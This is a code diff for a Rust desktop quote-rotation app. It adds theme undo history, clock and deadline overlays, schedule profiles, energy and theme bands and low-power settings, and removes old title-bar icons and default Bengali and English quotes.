+            NumeralSystem::Latin => "Latin (123)",
+            NumeralSystem::Bengali => "Bengali (১২৩)",
+        }
+    }
+
+    /// `text` with its ASCII digits swapped for this system's; everything
+    /// else is left as is
+    pub fn digits(self, text: &str) -> std::borrow::Cow<'_, str> {
+        if self == NumeralSystem::Latin || !text.bytes().any(|b| b.is_ascii_digit()) {
+            return std::borrow::Cow::Borrowed(text);
+        }
+        std::borrow::Cow::Owned(
+            text.chars()
+                .map(|c| match c.to_digit(10) {
+                    // Bengali digits are contiguous from ০ (U+09E6)
+                    Some(d) => char::from_u32(0x09E6 + d).unwrap_or(c),
+                    None => c,
+                })
+                .collect(),
+        )
+    }
+}
+
+/// Drop shadow painted behind quote text so it stays readable on light themes
+#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
+pub struct ShadowStyle {
+    pub color: Color32,
+    pub offset: Vec2,
+    // Extra, fainter copies spread around the offset to soften the edge
+    pub blur_like_layers: u8,
+}
+
+impl Default for ShadowStyle {
+    fn default() -> Self {
+        Self {
+            color: Color32::from_black_alpha(170),
+            offset: Vec2::new(1.5, 1.5),
+            blur_like_layers: 2,
+        }
+    }
+}
+
+impl ShadowStyle {
+    /// Offsets to paint the shadow at, each with an opacity factor
+    pub fn copies(&self) -> Vec<(Vec2, f32)> {
+        let mut copies = vec![(self.offset, 1.0)];
+        for layer in 1..=self.blur_like_layers {
+            let r = layer as f32 * 0.75;
+            let fade = 0.5 / layer as f32;
+            for dir in [Vec2::X, -Vec2::X, Vec2::Y, -Vec2::Y] {
+                copies.push((self.offset + dir * r, fade));
+            }
+        }
+        copies
+    }
 }
 
 impl Default for TextStyleConfig {
@@ -151,3637 +964,17506 @@ impl Default for TextStyleConfig {
             main_line_gap: 1.6,
             sub_line_gap: 1.6,
             between_gap: 15.0,
+            text_shadow: None,
+            auto_fit: false,
+            main_transform: TextTransform::None,
+            sub_transform: TextTransform::None,
+            main_letter_spacing: 0.0,
+            translation_display: TranslationDisplay::default(),
         }
     }
 }
 
-// =============================================================================
-// TITLE BAR ICON DEFINITIONS (From your original code)
-// =============================================================================
+/// Maximum number of snapshots kept by the theme modal's undo history
+const THEME_UNDO_DEPTH: usize = 20;
 
-/// Title bar icon definitions - each icon has a symbol and tooltip
-#[derive(Debug, Clone)]
-pub struct TitleBarIcon {
-    pub symbol: &'static str,
-    pub tooltip: &'static str,
-    pub width: f32,
-    pub font_size: f32,
+/// A committed theme + text style state in the theme modal's history
+type ThemeSnapshot = (ThemeConfig, TextStyleConfig);
+
+/// Undo/redo stacks for the theme modal. The top of `undo` is the current
+/// committed state; identical snapshots are never pushed twice
+#[derive(Debug, Default)]
+pub struct ThemeHistory {
+    undo: Vec<ThemeSnapshot>,
+    redo: Vec<ThemeSnapshot>,
 }
 
-impl TitleBarIcon {
-    pub const fn new(
-        symbol: &'static str,
-        tooltip: &'static str,
-        width: f32,
-        font_size: f32,
-    ) -> Self {
-        Self {
-            symbol,
-            tooltip,
-            width,
-            font_size,
+impl ThemeHistory {
+    pub fn is_empty(&self) -> bool {
+        self.undo.is_empty()
+    }
+
+    /// Start a fresh history from the state the modal opened with
+    pub fn begin(&mut self, snapshot: ThemeSnapshot) {
+        self.undo = vec![snapshot];
+        self.redo.clear();
+    }
+
+    pub fn clear(&mut self) {
+        self.undo.clear();
+        self.redo.clear();
+    }
+
+    /// Record a committed state; no-op if nothing actually changed
+    pub fn record(&mut self, snapshot: ThemeSnapshot) {
+        if self.undo.last() == Some(&snapshot) {
+            return;
         }
+        self.undo.push(snapshot);
+        if self.undo.len() > THEME_UNDO_DEPTH {
+            self.undo.remove(0);
+        }
+        self.redo.clear();
+    }
+
+    pub fn can_undo(&self) -> bool {
+        self.undo.len() > 1
+    }
+
+    pub fn can_redo(&self) -> bool {
+        !self.redo.is_empty()
+    }
+
+    /// Step back, returning the state to restore
+    pub fn undo(&mut self) -> Option<ThemeSnapshot> {
+        if !self.can_undo() {
+            return None;
+        }
+        self.redo.extend(self.undo.pop());
+        self.undo.last().cloned()
+    }
+
+    /// Step forward again, returning the state to restore
+    pub fn redo(&mut self) -> Option<ThemeSnapshot> {
+        let snapshot = self.redo.pop()?;
+        self.undo.push(snapshot.clone());
+        Some(snapshot)
     }
 }
 
-pub mod icons {
-    use super::TitleBarIcon;
+/// Maximum number of tag manager steps that can be undone
+const TAG_UNDO_DEPTH: usize = 20;
 
-    pub const APP_ICON: TitleBarIcon =
-        TitleBarIcon::new("\u{f135}", "Daily Motivation", 20.0, 24.0);
-    pub const THEME: TitleBarIcon = TitleBarIcon::new("\u{eb5c}", "Change Theme", 20.0, 12.0);
-    pub const TOGGLE_BG: TitleBarIcon =
-        TitleBarIcon::new("\u{f110}", "Toggle 3D Background", 20.0, 16.0);
-    pub const EXPORT: TitleBarIcon = TitleBarIcon::new("\u{f0207}", "Export Quotes", 20.0, 13.2);
-    pub const ZOOM_IN: TitleBarIcon = TitleBarIcon::new("\u{f120d}", "Zoom In", 20.0, 16.8);
-    pub const ZOOM_OUT: TitleBarIcon = TitleBarIcon::new("\u{f06ec}", "Zoom Out", 20.0, 16.8);
-    pub const TOGGLE_PANEL: TitleBarIcon =
-        TitleBarIcon::new("\u{f0c9}", "Toggle Panel", 20.0, 24.0);
-    pub const MINIMIZE: TitleBarIcon = TitleBarIcon::new("\u{f2d1}", "Minimize", 20.0, 11.2);
-    pub const MAXIMIZE: TitleBarIcon = TitleBarIcon::new("\u{f2d0}", "Maximize", 20.0, 10.0);
-    pub const CLOSE: TitleBarIcon = TitleBarIcon::new("\u{f110a}", "Close", 20.0, 13.2);
-    pub const HIDE_HEADER: TitleBarIcon = TitleBarIcon::new("\u{f102}", "Hide Header", 20.0, 17.5);
-    pub const SHOW_HEADER: TitleBarIcon = TitleBarIcon::new("\u{f103}", "Show Header", 20.0, 24.0);
-    pub const ROTATE: TitleBarIcon = TitleBarIcon::new("\u{f01e}", "Rotate Window", 20.0, 16.0);
-    pub const ANIMATE: TitleBarIcon = TitleBarIcon::new("\u{f04b}", "Animate Window", 20.0, 16.0);
+/// Badge color for tags that haven't been given one
+const DEFAULT_TAG_COLOR: Color32 = NEON_LIME;
 
-    // Multi-Animation Icons
-    pub const ANIM_BOUNCE: TitleBarIcon =
-        TitleBarIcon::new("\u{f0025}", "Bounce Animation", 20.0, 16.0);
-    pub const ANIM_SHAKE: TitleBarIcon =
-        TitleBarIcon::new("\u{f067a}", "Shake Animation", 20.0, 16.0);
-    pub const ANIM_DANCE: TitleBarIcon =
-        TitleBarIcon::new("\u{f00d2}", "Dance Animation", 20.0, 16.0);
-    pub const ANIM_ROTATE: TitleBarIcon =
-        TitleBarIcon::new("\u{f01e}", "Rotate Animation", 20.0, 16.0);
-    pub const ANIM_DISSOLVE: TitleBarIcon =
-        TitleBarIcon::new("\u{f0376}", "Dissolve Animation", 20.0, 16.0);
-    pub const ANIM_FLY: TitleBarIcon = TitleBarIcon::new("\u{f02eb}", "Fly Animation", 20.0, 16.0);
+/// The tags as they were before one rename, merge or delete: the touched
+/// quotes' old tag lists (by position in `AppState::tagged_quotes`, with
+/// the main text to check it's still the same quote), the colors and the
+/// profile tag filters
+#[derive(Debug, Clone)]
+pub struct TagSnapshot {
+    quote_count: usize,
+    changed: Vec<(usize, String, Vec<String>)>,
+    colors: std::collections::BTreeMap<String, Color32>,
+    profile_tags: Vec<String>,
 }
 
-// =============================================================================
-// UI STATE
-// =============================================================================
+/// Maximum number of repeated-sub-text edits that can be undone
+const SUB_TEXT_UNDO_DEPTH: usize = 20;
 
-/// Holds all state for the title bar UI
-#[derive(Debug)]
-pub struct TitleBarState {
-    // Button hover states
-    pub theme_btn_hovered: bool,
-    pub toggle_bg_btn_hovered: bool,
-    pub export_btn_hovered: bool,
-    pub zoom_out_btn_hovered: bool,
-    pub zoom_in_btn_hovered: bool,
-    pub toggle_panel_btn_hovered: bool,
-    pub minimize_btn_hovered: bool,
-    pub maximize_btn_hovered: bool,
-    pub close_btn_hovered: bool,
+/// The sub texts as they were before one group edit: the touched quotes of
+/// the collection (index, main text to check it's still the same quote,
+/// old sub text)
+#[derive(Debug, Clone)]
+pub struct SubTextSnapshot {
+    collection: usize,
+    quote_count: usize,
+    changed: Vec<(usize, String, String)>,
+}
 
-    // Panel visibility
-    pub control_panel_visible: bool,
-    pub header_visible: bool,
+/// A user-set deadline shown as a live countdown above the quote
+#[derive(Debug, Clone, Serialize, Deserialize)]
+pub struct Deadline {
+    pub label: String,
+    pub at: chrono::NaiveDateTime,
+}
 
-    // Zoom state
-    pub zoom_level: f32,
+impl Deadline {
+    /// Signed seconds until the deadline (negative once it has passed)
+    pub fn seconds_remaining(&self, now: chrono::NaiveDateTime) -> i64 {
+        (self.at - now).num_seconds()
+    }
+}
 
-    // Drag state
-    pub dragging: bool,
-    pub drag_start: Option<PhysicalPosition<f64>>,
+/// A corner of the central panel (used for overlay placement)
+#[derive(Debug, Clone, Copy, PartialEq, Eq, Default, Serialize, Deserialize)]
+pub enum ScreenCorner {
+    #[default]
+    TopLeft,
+    TopRight,
+    BottomLeft,
+    BottomRight,
 }
 
-impl Default for TitleBarState {
-    fn default() -> Self {
-        Self {
-            theme_btn_hovered: false,
-            toggle_bg_btn_hovered: false,
-            export_btn_hovered: false,
-            zoom_out_btn_hovered: false,
-            zoom_in_btn_hovered: false,
-            toggle_panel_btn_hovered: false,
-            minimize_btn_hovered: false,
-            maximize_btn_hovered: false,
-            close_btn_hovered: false,
+impl ScreenCorner {
+    pub const ALL: [ScreenCorner; 4] = [
+        ScreenCorner::TopLeft,
+        ScreenCorner::TopRight,
+        ScreenCorner::BottomLeft,
+        ScreenCorner::BottomRight,
+    ];
 
-            control_panel_visible: true,
-            header_visible: true,
+    pub fn label(self) -> &'static str {
+        match self {
+            ScreenCorner::TopLeft => "Top Left",
+            ScreenCorner::TopRight => "Top Right",
+            ScreenCorner::BottomLeft => "Bottom Left",
+            ScreenCorner::BottomRight => "Bottom Right",
+        }
+    }
 
-            zoom_level: 1.0,
+    /// The `size` x `size` square in this corner of `rect`
+    pub fn region(self, rect: Rect, size: f32) -> Rect {
+        let (corner, _) = self.anchor(rect, 0.0);
+        let away = match self {
+            ScreenCorner::TopLeft => Vec2::new(size, size),
+            ScreenCorner::TopRight => Vec2::new(-size, size),
+            ScreenCorner::BottomLeft => Vec2::new(size, -size),
+            ScreenCorner::BottomRight => Vec2::new(-size, -size),
+        };
+        Rect::from_two_pos(corner, corner + away)
+    }
 
-            dragging: false,
-            drag_start: None,
+    /// Anchor point and text alignment for this corner of `rect`
+    pub fn anchor(self, rect: Rect, margin: f32) -> (Pos2, egui::Align2) {
+        match self {
+            ScreenCorner::TopLeft => (
+                rect.left_top() + Vec2::new(margin, margin),
+                egui::Align2::LEFT_TOP,
+            ),
+            ScreenCorner::TopRight => (
+                rect.right_top() + Vec2::new(-margin, margin),
+                egui::Align2::RIGHT_TOP,
+            ),
+            ScreenCorner::BottomLeft => (
+                rect.left_bottom() + Vec2::new(margin, -margin),
+                egui::Align2::LEFT_BOTTOM,
+            ),
+            ScreenCorner::BottomRight => (
+                rect.right_bottom() + Vec2::new(-margin, -margin),
+                egui::Align2::RIGHT_BOTTOM,
+            ),
         }
     }
 }
 
-/// Actions that can be triggered from the title bar
-#[derive(Debug, Clone, Copy, PartialEq)]
-pub enum TitleBarAction {
-    ThemeClicked,
-    ToggleBg,
-    ExportClicked,
-    ZoomIn,
-    ZoomOut,
-    TogglePanel,
-    MinimizeClicked,
-    MaximizeClicked,
-    CloseClicked,
-    ShowHeader,
-    HideHeader,
-    AnimateClicked,
-    PlayBounce,
-    PlayShake,
-    PlayDance,
-    PlayRotate,
-    PlayDissolve,
-    PlayFly,
-    StopAnimations,
+/// How a corner hotspot fires
+#[derive(Debug, Clone, Copy, PartialEq, Eq, Default, Serialize, Deserialize)]
+pub enum HotspotTrigger {
+    #[default]
+    Hover,
+    Click,
+    DoubleClick,
 }
 
-// =============================================================================
-// ANIMATION TYPES
-// =============================================================================
+impl HotspotTrigger {
+    pub const ALL: [HotspotTrigger; 3] = [
+        HotspotTrigger::Hover,
+        HotspotTrigger::Click,
+        HotspotTrigger::DoubleClick,
+    ];
 
-#[derive(Debug, Clone, Copy, PartialEq, Default, Serialize, Deserialize)]
-pub enum AppAnimation {
-    #[default]
-    None,
-    Bounce,
-    Shake,
-    Dance,
-    Rotate,
-    Dissolve,
-    Fly,
+    pub fn label(self) -> &'static str {
+        match self {
+            HotspotTrigger::Hover => "Hover",
+            HotspotTrigger::Click => "Click",
+            HotspotTrigger::DoubleClick => "Double-click",
+        }
+    }
 }
 
-// =============================================================================
-// PERSISTENCE CONFIGURATION
-// =============================================================================
-
-/// Configuration for persistence
-#[derive(Serialize, Deserialize)]
-struct AppConfig {
-    quotes: Vec<Quote>,
-    interval_secs: u64,
-    theme: ThemeConfig,
-    text_style: TextStyleConfig,
+/// What a corner hotspot does when it fires
+#[derive(Debug, Clone, Copy, PartialEq, Eq, Default, Serialize, Deserialize)]
+pub enum AppAction {
+    #[default]
+    None,
+    ShowPanel,
+    TogglePanel,
+    NextQuote,
+    PrevQuote,
+    ToggleRotation,
+    MiniMode,
+    Presentation,
 }
 
-impl AppConfig {
-    fn load() -> Option<Self> {
-        if let Ok(file) = File::open("settings.json") {
-            let reader = BufReader::new(file);
-            serde_json::from_reader(reader).ok()
-        } else {
-            None
-        }
-    }
+impl AppAction {
+    pub const ALL: [AppAction; 8] = [
+        AppAction::None,
+        AppAction::ShowPanel,
+        AppAction::TogglePanel,
+        AppAction::NextQuote,
+        AppAction::PrevQuote,
+        AppAction::ToggleRotation,
+        AppAction::MiniMode,
+        AppAction::Presentation,
+    ];
 
-    fn save(&self) {
-        if let Ok(file) = File::create("settings.json") {
-            // Pretty print for readability
-            let _ = serde_json::to_writer_pretty(file, self);
+    pub fn label(self) -> &'static str {
+        match self {
+            AppAction::None => "Nothing",
+            AppAction::ShowPanel => "Show panel",
+            AppAction::TogglePanel => "Toggle panel",
+            AppAction::NextQuote => "Next quote",
+            AppAction::PrevQuote => "Previous quote",
+            AppAction::ToggleRotation => "Pause/resume rotation",
+            AppAction::MiniMode => "Mini mode",
+            AppAction::Presentation => "Presentation mode",
         }
     }
 }
 
-// =============================================================================
-// MAIN APPLICATION STATE
-// =============================================================================
-
-/// Main application state
-#[derive(Debug)]
-pub struct AppState {
-    // Title bar state
-    pub title_bar_state: TitleBarState,
-
-    // Quotes
-    pub quotes: Vec<Quote>,
-    pub current_quote_index: usize,
-
-    // Rotation
-    pub rotation_interval: Duration,
-    pub last_rotation: Instant,
-    pub rotation_enabled: bool,
-
-    // Interval as numeric (for DragValue)
-    pub interval_secs: u64,
-
-    // Theme
-    pub theme: ThemeConfig,
-    pub theme_modal_open: bool,
-
-    // Text style
-    pub text_style: TextStyleConfig,
-
-    // Input fields
-    pub main_text_input: String,
-    pub sub_text_input: String,
-
-    pub subtitle_editing: bool,
-    pub subtitle_edit_buffer: String,
+/// Trigger and action for one corner of the app window
+#[derive(Debug, Clone, Copy, PartialEq, Eq, Default, Serialize, Deserialize)]
+pub struct CornerAction {
+    pub trigger: HotspotTrigger,
+    pub action: AppAction,
+}
 
-    pub confirm_clear_pending: bool,
+/// Clock/date overlay configuration
+#[derive(Debug, Clone, Serialize, Deserialize)]
+pub struct ClockConfig {
+    pub enabled: bool,
+    pub use_24h: bool,
+    pub show_seconds: bool,
+    pub show_date: bool,
+    pub corner: ScreenCorner,
+    pub size: f32,
+}
 
-    // 3D Background Process
-    pub is_3d_bg_active: bool,
-    pub bg_process: Option<std::process::Child>,
-    pub bg_hwnd: Option<isize>,
+impl Default for ClockConfig {
+    fn default() -> Self {
+        Self {
+            enabled: false,
+            use_24h: true,
+            show_seconds: false,
+            show_date: false,
+            corner: ScreenCorner::TopLeft,
+            size: 14.0,
+        }
+    }
+}
 
-    // Color picker toggles
-    pub show_main_color_picker: bool,
-    pub show_sub_color_picker: bool,
+/// When low power mode kicks in
+#[derive(Debug, Clone, Copy, PartialEq, Eq, Default, Serialize, Deserialize)]
+pub enum LowPowerMode {
+    #[default]
+    Off,
+    OnBattery,
+    Always,
+}
 
-    // Running state
-    pub running: bool,
+impl LowPowerMode {
+    pub const ALL: [LowPowerMode; 3] = [
+        LowPowerMode::Off,
+        LowPowerMode::OnBattery,
+        LowPowerMode::Always,
+    ];
 
-    // Activity tracking for auto-hide
-    pub last_interaction: Instant,
+    pub fn label(self) -> &'static str {
+        match self {
+            LowPowerMode::Off => "Off",
+            LowPowerMode::OnBattery => "On battery",
+            LowPowerMode::Always => "Always",
+        }
+    }
+}
 
-    // Custom manual resize state
-    // (ResizeDirection, initial_cursor_x, initial_cursor_y, initial_window_x, initial_window_y, initial_width, initial_height)
-    pub manual_resize_start: Option<(winit::window::ResizeDirection, i32, i32, i32, i32, u32, u32)>,
+/// Low power mode and which savings it applies; each can be turned off
+#[derive(Debug, Clone, Copy, PartialEq, Serialize, Deserialize)]
+#[serde(default)]
+pub struct LowPowerConfig {
+    pub mode: LowPowerMode,
+    // Stop the 3D background child (it comes back when power saving ends)
+    pub pause_background: bool,
+    // LOW_POWER_*_FRAME_INTERVAL instead of the usual frame pacing
+    pub slow_repaint: bool,
+    // Snap the content rotation and skip the attention cue
+    pub still_transitions: bool,
+}
 
-    // Rotation state: 0=0, 1=90, 2=180, 3=270
-    pub rotation: u8,
-    pub target_rotation_angle: f32,
-    pub current_rotation_angle: f32,
-    pub current_scale: f32,
+impl Default for LowPowerConfig {
+    fn default() -> Self {
+        Self {
+            mode: LowPowerMode::default(),
+            pause_background: true,
+            slow_repaint: true,
+            still_transitions: true,
+        }
+    }
+}
 
-    // Bouncy window state (Now part of Multi-Animation)
-    pub active_animation: AppAnimation,
-    pub anim_progress: f32,
-    pub bounce_vel_x: f32,
-    pub bounce_vel_y: f32,
-    pub base_pos: Option<(i32, i32)>,
+/// Knobs for the quantum_logo background scene
+#[derive(Debug, Clone, Copy, PartialEq, Serialize, Deserialize)]
+#[serde(default)]
+pub struct BackgroundConfig {
+    pub particle_count: u32,
+    pub bloom_intensity: f32,
+    pub rotation_speed: f32,
+    pub show_overlay: bool,
 }
 
-impl Default for AppState {
+impl Default for BackgroundConfig {
     fn default() -> Self {
-        // Try to load from config
-        if let Some(config) = AppConfig::load() {
-            Self {
-                title_bar_state: TitleBarState::default(),
-                quotes: config.quotes,
-                current_quote_index: 0,
-                rotation_interval: Duration::from_secs(config.interval_secs),
-                last_rotation: Instant::now(),
-                rotation_enabled: true,
-                interval_secs: config.interval_secs,
-                theme: config.theme,
-                theme_modal_open: false,
-                text_style: config.text_style,
-                main_text_input: String::new(),
-                sub_text_input: String::new(),
-                show_main_color_picker: false,
-                show_sub_color_picker: false,
-                running: true,
-                last_interaction: Instant::now(),
-                subtitle_editing: false,
-                subtitle_edit_buffer: String::new(),
-                confirm_clear_pending: false,
-                is_3d_bg_active: false,
-                bg_process: None,
-                bg_hwnd: None,
-                manual_resize_start: None,
-                rotation: 0,
-                target_rotation_angle: 0.0,
-                current_rotation_angle: 0.0,
-                current_scale: 1.0,
-                active_animation: AppAnimation::None,
-                anim_progress: 0.0,
-                bounce_vel_x: 5.0,
-                bounce_vel_y: 4.0,
-                base_pos: None,
-            }
-        } else {
-            // Default initialization if no config found
-            Self {
-                title_bar_state: TitleBarState::default(),
-
-                quotes: vec![
-                    Quote {
-                        main_text: "এখনই কাজে মনোযোগ দাও - ফোকাস তোমার শক্তি".to_string(),
-                        sub_text: "Keep pushing - You're doing great! 🌟".to_string(),
-                    },
-                    Quote {
-                        main_text: "প্রতিটি মুহূর্ত গুরুত্বপূর্ণ - কাজ চালিয়ে যাও".to_string(),
-                        sub_text: "Keep pushing - You're doing great! 🌟".to_string(),
-                    },
-                    Quote {
-                        main_text: "সফলতা ধৈর্যের ফল - হার মানিও না".to_string(),
-                        sub_text: "Keep pushing - You're doing great! 🌟".to_string(),
-                    },
-                    Quote {
-                        main_text: "Focus on the work - Success is near".to_string(),
-                        sub_text: "Keep pushing - You're doing great! 🌟".to_string(),
-                    },
-                    Quote {
-                        main_text: "Stay disciplined - Great things take time".to_string(),
-                        sub_text: "Keep pushing - You're doing great! 🌟".to_string(),
-                    },
-                    Quote {
-                        main_text: "তুমি পারবে - শুধু চেষ্টা চালিয়ে যাও".to_string(),
-                        sub_text: "Keep pushing - You're doing great! 🌟".to_string(),
-                    },
-                    Quote {
-                        main_text: "Dreams need action - Start now".to_string(),
-                        sub_text: "Keep pushing - You're doing great! 🌟".to_string(),
-                    },
-                    Quote {
-                        main_text: "প্রতিদিন একটু এগিয়ে যাও - লক্ষ্য কাছে".to_string(),
-                        sub_text: "Keep pushing - You're doing great! 🌟".to_string(),
-                    },
-                    Quote {
-                        main_text: "Consistency beats talent - Keep going".to_string(),
-                        sub_text: "Keep pushing - You're doing great! 🌟".to_string(),
-                    },
-                    Quote {
-                        main_text: "বিশ্রাম নাও কিন্তু হাল ছাড়ো না".to_string(),
-                        sub_text: "Keep pushing - You're doing great! 🌟".to_string(),
-                    },
-                ],
-                current_quote_index: 0,
-
-                rotation_interval: Duration::from_secs(8),
-                last_rotation: Instant::now(),
-                rotation_enabled: true,
+        Self {
+            particle_count: 800,
+            bloom_intensity: 0.15,
+            rotation_speed: 1.0,
+            show_overlay: true,
+        }
+    }
+}
 
-                interval_secs: 8,
+impl BackgroundConfig {
+    pub const PARTICLE_RANGE: std::ops::RangeInclusive<u32> = 100..=2000;
 
-                theme: ThemeConfig::default(),
-                theme_modal_open: false,
+    /// Launch arguments for the child, after size/position/hwnd
+    pub fn args(&self) -> [String; 4] {
+        [
+            self.particle_count.to_string(),
+            self.bloom_intensity.to_string(),
+            self.rotation_speed.to_string(),
+            (self.show_overlay as u8).to_string(),
+        ]
+    }
 
-                text_style: TextStyleConfig::default(),
+    /// Window properties the running child polls for live changes: the value
+    /// in the low 32 bits, bit 32 set so a zero still reads as present
+    pub fn props(&self) -> [(&'static str, u64); 4] {
+        [
+            ("BgParticles", self.particle_count),
+            ("BgBloom", self.bloom_intensity.to_bits()),
+            ("BgSpeed", self.rotation_speed.to_bits()),
+            ("BgOverlay", self.show_overlay as u32),
+        ]
+        .map(|(name, value)| (name, 1 << 32 | value as u64))
+    }
+}
 
-                main_text_input: String::new(),
-                sub_text_input: String::new(),
+impl ClockConfig {
+    /// How often the overlay needs to be redrawn
+    pub fn tick(&self) -> Duration {
+        if self.show_seconds {
+            Duration::from_secs(1)
+        } else {
+            Duration::from_secs(60)
+        }
+    }
+}
 
-                show_main_color_picker: false,
-                show_sub_color_picker: false,
+/// A schedule profile ("Workday", "Weekend") that narrows rotation to a tag and
+/// can carry its own interval and theme while its time window is active
+#[derive(Debug, Clone, Serialize, Deserialize)]
+pub struct Profile {
+    pub name: String,
+    /// Only quotes carrying this tag rotate while active (empty = all quotes)
+    pub tag: String,
+    /// Rotation interval override (0 = keep the global interval)
+    pub interval_secs: u64,
+    /// Theme override (None = keep the global theme)
+    pub theme: Option<ThemeConfig>,
+    /// Active weekdays, Monday first
+    pub days: [bool; 7],
+    /// Window start/end as minutes since local midnight. End <= start wraps past
+    /// midnight; equal values mean the whole day.
+    pub start_minute: u32,
+    pub end_minute: u32,
+}
 
-                running: true,
-                last_interaction: Instant::now(),
-                subtitle_editing: false,
-                subtitle_edit_buffer: String::new(),
-                confirm_clear_pending: false,
-                is_3d_bg_active: false,
-                bg_process: None,
-                bg_hwnd: None,
-                manual_resize_start: None,
-                rotation: 0,
-                target_rotation_angle: 0.0,
-                current_rotation_angle: 0.0,
-                current_scale: 1.0,
-                active_animation: AppAnimation::None,
-                anim_progress: 0.0,
-                bounce_vel_x: 5.0,
-                bounce_vel_y: 4.0,
-                base_pos: None,
-            }
+impl Default for Profile {
+    fn default() -> Self {
+        Self {
+            name: "New Profile".to_string(),
+            tag: String::new(),
+            interval_secs: 0,
+            theme: None,
+            days: [true, true, true, true, true, false, false],
+            start_minute: 9 * 60,
+            end_minute: 17 * 60,
         }
     }
 }
 
-impl Drop for AppState {
-    fn drop(&mut self) {
-        if let Some(mut child) = self.bg_process.take() {
-            let _ = child.kill();
-            let _ = child.wait();
+impl Profile {
+    /// Length of the daily time window in minutes
+    pub fn window_minutes(&self) -> u32 {
+        if self.start_minute == self.end_minute {
+            24 * 60
+        } else {
+            (self.end_minute + 24 * 60 - self.start_minute) % (24 * 60)
         }
     }
-}
 
-impl AppState {
-    /// Save current state to settings.json
-    pub fn save(&self) {
-        let config = AppConfig {
-            quotes: self.quotes.clone(),
-            interval_secs: self.interval_secs,
-            theme: self.theme.clone(),
-            text_style: self.text_style.clone(),
-        };
-        config.save();
+    /// Whether the profile applies on `weekday` (0 = Monday) at `minute` past midnight
+    pub fn matches(&self, weekday: usize, minute: u32) -> bool {
+        if !self.days.get(weekday).copied().unwrap_or(false) {
+            return false;
+        }
+        if self.start_minute == self.end_minute {
+            true
+        } else if self.start_minute < self.end_minute {
+            minute >= self.start_minute && minute < self.end_minute
+        } else {
+            minute >= self.start_minute || minute < self.end_minute
+        }
     }
+}
 
-    /// Get the current quote
-    pub fn current_quote(&self) -> Option<&Quote> {
-        self.quotes.get(self.current_quote_index)
+/// How energetic a quote reads (see `EnergyBand`)
+#[derive(Debug, Clone, Copy, PartialEq, Eq, Default, Serialize, Deserialize)]
+pub enum EnergyLevel {
+    Calm,
+    #[default]
+    Neutral,
+    Intense,
+}
+
+impl EnergyLevel {
+    pub const ALL: [EnergyLevel; 3] = [
+        EnergyLevel::Calm,
+        EnergyLevel::Neutral,
+        EnergyLevel::Intense,
+    ];
+
+    pub fn label(self) -> &'static str {
+        match self {
+            EnergyLevel::Calm => "Calm",
+            EnergyLevel::Neutral => "Neutral",
+            EnergyLevel::Intense => "Intense",
+        }
     }
 
-    /// Rotate to next quote
-    pub fn next_quote(&mut self) {
-        if !self.quotes.is_empty() {
-            self.current_quote_index = (self.current_quote_index + 1) % self.quotes.len();
-            self.last_rotation = Instant::now();
+    pub fn icon(self) -> &'static str {
+        match self {
+            EnergyLevel::Calm => "🌙",
+            EnergyLevel::Neutral => "◌",
+            EnergyLevel::Intense => "⚡",
         }
     }
 
-    /// Rotate to previous quote
-    pub fn prev_quote(&mut self) {
-        if !self.quotes.is_empty() {
-            if self.current_quote_index == 0 {
-                self.current_quote_index = self.quotes.len() - 1;
-            } else {
-                self.current_quote_index -= 1;
-            }
-            self.last_rotation = Instant::now();
+    /// Next level for the TEXT LIST row's click-to-cycle button
+    pub fn cycled(self) -> Self {
+        match self {
+            EnergyLevel::Calm => EnergyLevel::Neutral,
+            EnergyLevel::Neutral => EnergyLevel::Intense,
+            EnergyLevel::Intense => EnergyLevel::Calm,
         }
     }
 
-    /// Add a new quote
-    pub fn add_quote(&mut self, main: String, sub: String) {
-        let sub = if sub.is_empty() {
-            "Keep pushing - You're doing great! 🌟".to_string()
-        } else {
-            sub
-        };
-        self.quotes.push(Quote {
-            main_text: main,
-            sub_text: sub,
-        });
-        self.current_quote_index = self.quotes.len() - 1;
-        self.save();
+    /// Random rotation weight multiplier, in halves: a Calm or Intense quote
+    /// counts 3x while its band is active and 0.5x otherwise; Neutral stays 1x
+    pub fn weight_halves(self, favored: Option<EnergyLevel>) -> u32 {
+        match self {
+            EnergyLevel::Neutral => 2,
+            level if Some(level) == favored => 6,
+            _ => 1,
+        }
     }
+}
 
-    /// Delete a quote by index
-    pub fn delete_quote(&mut self, index: usize) {
-        if index < self.quotes.len() {
-            self.quotes.remove(index);
-            if self.current_quote_index >= self.quotes.len() && !self.quotes.is_empty() {
-                self.current_quote_index = self.quotes.len() - 1;
-            }
-            self.save();
+/// A daily time window in which random rotation favors one energy level.
+/// End <= start wraps past midnight, like `Profile`; equal values mean the
+/// whole day.
+#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
+pub struct EnergyBand {
+    pub level: EnergyLevel,
+    pub start_minute: u32,
+    pub end_minute: u32,
+}
+
+impl EnergyBand {
+    pub fn contains(&self, minute: u32) -> bool {
+        if self.start_minute == self.end_minute {
+            true
+        } else if self.start_minute < self.end_minute {
+            minute >= self.start_minute && minute < self.end_minute
+        } else {
+            minute >= self.start_minute || minute < self.end_minute
         }
     }
+}
 
-    /// Get background color (interpolated gradient or solid)
-    pub fn get_background_color(&self) -> Color32 {
-        if self.is_3d_bg_active {
-            return Color32::TRANSPARENT;
-        }
+/// Mornings favor Intense, late evenings Calm
+fn default_energy_bands() -> Vec<EnergyBand> {
+    vec![
+        EnergyBand {
+            level: EnergyLevel::Intense,
+            start_minute: 6 * 60,
+            end_minute: 11 * 60,
+        },
+        EnergyBand {
+            level: EnergyLevel::Calm,
+            start_minute: 21 * 60,
+            end_minute: 2 * 60,
+        },
+    ]
+}
 
-        if self.theme.mode == ThemeMode::Solid {
-            return self.theme.solid_color;
-        }
+/// A part of the day with its own theme, for "Theme by time of day". A band
+/// runs from its start until the next band starts; the latest one carries on
+/// past midnight into the earliest.
+#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
+pub struct ThemeBand {
+    pub name: String,
+    pub start_minute: u32,
+    /// Theme while the band is active (None = keep the global theme)
+    pub theme: Option<ThemeConfig>,
+}
 
-        // For gradient, return the first color as base
-        // Full gradient would need shader support in wgpu
-        self.theme
-            .gradient_colors
-            .first()
-            .copied()
-            .unwrap_or(CANVAS_BG)
-    }
+/// Morning, day, evening and night, none with a theme of its own yet
+fn default_theme_bands() -> Vec<ThemeBand> {
+    [("Morning", 6), ("Day", 10), ("Evening", 17), ("Night", 21)]
+        .into_iter()
+        .map(|(name, hour)| ThemeBand {
+            name: name.to_string(),
+            start_minute: hour * 60,
+            theme: None,
+        })
+        .collect()
 }
 
-// =============================================================================
-// BUTTON RENDERER
